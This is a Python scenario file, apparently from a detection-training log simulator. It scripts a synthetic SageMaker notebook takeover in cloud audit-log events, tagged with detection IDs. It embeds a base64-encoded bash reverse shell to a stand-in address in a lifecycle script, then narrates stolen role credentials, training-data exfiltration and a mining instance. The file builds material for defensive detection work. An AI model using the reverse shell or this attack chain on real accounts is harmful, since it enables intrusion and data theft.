"""A support lead's session opens a data scientist's notebook, and its role goes travelling."""

from __future__ import annotations

import base64

from modelkeep.engines.logs.organisation import cast
from modelkeep.engines.logs.organisation.actors import ROLE, Actor
from modelkeep.engines.logs.organisation.cast import DEVELOPMENT, GLOBAL, PRODUCTION, SECOND
from modelkeep.engines.logs.organisation.streams import changing, object_event, reading
from modelkeep.engines.logs.scenarios.series import Scenario, Stage

_SCRIPT = b"#!/bin/bash\nnohup bash -i >& /dev/tcp/192.0.2.200/443 0>&1 &\n"


def play(stage: Stage) -> None:
    """A script at start, a signed URL, and then the role's credentials from elsewhere."""
    thief = Actor(
        kind=ROLE,
        account=DEVELOPMENT,
        name="AWSReservedSSO_SupportLead_7d6e5f4c3b2a1908",
        path=cast.MARIA.path,
        session="lee.morgan@example.com",
        ip=f"{cast.ELSEWHERE}.200",
        agent=cast.CLI,
    )
    stage.act("find notebooks", thief, reading("sagemaker", "ListNotebookInstances", SECOND))
    script = {
        "notebookInstanceLifecycleConfigName": "research-setup",
        "onStart": [{"content": base64.b64encode(_SCRIPT).decode()}],
    }
    stage.act(
        "a script that calls home",
        thief,
        changing("sagemaker", "UpdateNotebookInstanceLifecycleConfig", SECOND, script),
        "AID-039",
    )
    notebook = {"notebookInstanceName": cast.NOTEBOOK}
    url = changing("sagemaker", "CreatePresignedNotebookInstanceUrl", SECOND, notebook)
    stage.act("a signed URL to somebody else's notebook", thief, url, "AID-037", "AID-038", after=240)
    taken = cast.NOTEBOOK_ROLE.at(ip=f"{cast.ELSEWHERE}.200", agent="aws-cli/2.17.1 os/linux lang/python#3.11.9")
    stage.act(
        "the notebook's role from elsewhere", taken, reading("sts", "GetCallerIdentity", GLOBAL), "AID-041", after=90
    )
    for source, name in (("iam", "ListRoles"), ("s3", "ListBuckets"), ("sagemaker", "ListModels")):
        where = GLOBAL if source == "iam" else SECOND
        stage.act("what can it reach", taken, reading(source, name, where), "AID-041")
    data = object_event(
        "GetObject",
        cast.TRAINING_BUCKET,
        "fraud/current/part-0000007.parquet",
        SECOND,
        PRODUCTION,
        bytes_out=30_000_000,
    )
    stage.act("take training data", taken, data, "AID-041")
    miner = {
        "notebookInstanceName": "jupyter-helper",
        "instanceType": "ml.g5.12xlarge",
        "roleArn": cast.NOTEBOOK_ROLE.arn,
        "directInternetAccess": "Enabled",
    }
    made = changing("sagemaker", "CreateNotebookInstance", SECOND, miner)
    stage.act("a notebook of one's own with the role", thief, made, "AID-040", "AID-021", after=300)


SCENARIO = Scenario(
    id="notebook-takeover",
    title="A notebook is taken over and its role used elsewhere",
    teaches="A notebook is a way to its role: scripts at start, signed URLs by people who never opened it, and the role's credentials from "
    "an address that is not the notebook's.",
    begins=14,
    play=play,
)
